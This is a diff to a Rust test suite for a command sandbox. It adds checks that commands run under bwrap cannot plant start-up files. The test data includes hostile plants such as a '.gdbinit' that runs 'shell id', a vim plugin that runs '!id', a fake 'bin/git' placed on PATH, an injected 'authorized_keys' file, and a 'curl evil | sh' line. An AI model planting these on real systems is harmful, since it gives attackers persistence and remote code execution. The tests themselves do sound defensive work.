@@ -74,6 +74,7 @@ fn repository(dir: &Path, user: User) {
     let git = |args: &[&str]| {
         let status = std::process::Command::new("git")
             .args(["-c", "user.name=t", "-c", "user.email=t@example.com"])
+            .args(["-c", "advice.addEmbeddedRepo=false"])
             .args(args)
             .current_dir(dir)
             .stdout(Stdio::null())
@@ -315,6 +316,12 @@ const PLANTS: &[(&str, &str)] = &[
     (".npmrc (missing)", "echo 'script-shell=/tmp/x' > .npmrc"),
     (".vimrc (missing)", "echo '!id' > .vimrc"),
     (".pam_environment (missing)", "echo 'LD_PRELOAD=/tmp/x' > .pam_environment"),
+    ("~/bin, first on PATH (missing)", "mkdir -p bin && echo id > bin/git"),
+    (".gdbinit (missing)", "echo 'shell id' > .gdbinit"),
+    (
+        ".vim/plugin (missing)",
+        "mkdir -p .vim/plugin && echo '!id' > .vim/plugin/x.vim",
+    ),
     (
         "an existing dot-entry of the home, whatever its name",
         "echo 'curl evil | sh' >> .cache/tool/run.sh",
@@ -393,12 +400,17 @@ fn bwrap_keeps_them(user: User, beside: bool) {
     repository(&ws, user);
     let release = base().join(format!("release-{tag}"));
     let holder = beside.then(|| {
+        // The command itself runs only once its stand-ins are all in place:
+        // its mark says the workspace is settled.
         let holder = spawn_as(
             user,
             &ws,
-            &format!("while [ ! -e {} ]; do sleep 0.02; done", release.display()),
+            &format!(
+                "touch holder-ready; while [ ! -e {} ]; do sleep 0.02; done",
+                release.display()
+            ),
         );
-        appears(&ws.join(".envrc"));
+        appears(&ws.join("holder-ready"));
         holder
     });
     let before = tree(&ws);
@@ -457,11 +469,16 @@ fn bwrap_keeps_them(user: User, beside: bool) {
     // lists, as it lists the empty file standing in for the missing
     // included config; directory stand-ins it does not.)
     let listed = status["stdout"]["text"].as_str().unwrap();
-    assert!(listed.ends_with("?? notes.txt\n1\n"), "{tag}: {status}");
+    assert!(
+        listed.ends_with("?? notes.txt\n1\n")
+            || listed.ends_with("?? holder-ready\n?? notes.txt\n1\n"),
+        "{tag}: {status}"
+    );
     for line in listed.lines().filter(|l| l.starts_with("??")) {
         let name = line.trim_start_matches("?? ");
         assert!(
             name == "notes.txt"
+                || name == "holder-ready"
                 || name == "conf/later.cfg"
                 || dsh_sandbox::HOME_PROTECTED_PATHS.contains(&name),
             "{tag}: {name} listed: {status}"
@@ -523,6 +540,8 @@ fn bwrap_keeps_them(user: User, beside: bool) {
     for missing in [
         ".envrc",
         ".zshrc",
+        "bin",
+        ".gdbinit",
         ".idea",
         ".dsh-bash",
         ".mcp.json",
@@ -653,6 +672,35 @@ fn head_holds_beside_another_command_and_after_a_kill() {
     root_stayed_no_repository(&ws, "after a killed server", &result);
 }
 
+/// A home inside the workspace that does not exist yet cannot be created
+/// (with start-up files in it) by a command.
+fn a_missing_home_cannot_be_created() {
+    let ws = base().join("protected-missing-home");
+    std::fs::create_dir_all(&ws).unwrap();
+    let output = as_user(User::Root, binary().to_str().unwrap())
+        .args(["run", "--json", "--sandbox", "workspace-write"])
+        .args(["--sandbox-backend", "bwrap", "--workdir"])
+        .arg(&ws)
+        .args([
+            "--",
+            "mkdir -p home/.ssh; echo key > home/.ssh/authorized_keys; echo id > home/.bashrc",
+        ])
+        .env("HOME", ws.join("home"))
+        .stdin(Stdio::null())
+        .output()
+        .unwrap();
+    assert!(output.status.code().is_some(), "{output:?}");
+    assert!(
+        !ws.join("home/.bashrc").exists() && !ws.join("home/.ssh").exists(),
+        "a missing home was created with start-up files: {}",
+        String::from_utf8_lossy(&output.stdout)
+    );
+    assert!(
+        !ws.join("home").exists(),
+        "its stand-in outlived the command"
+    );
+}
+
 /// A hangup stops the command and cleans up; what an outright kill leaves
 /// is claimed and removed by the next command.
 fn hangups_clean_up_and_kill_leftovers_are_reclaimed() {
@@ -741,6 +789,7 @@ fn protected_paths_hold_under_bwrap_and_landlock_says_it_cannot() {
                 symlinked_protected_paths();
                 concurrent_commands_keep_each_others_stand_ins();
                 head_holds_beside_another_command_and_after_a_kill();
+                a_missing_home_cannot_be_created();
                 hangups_clean_up_and_kill_leftovers_are_reclaimed();
             }
         }
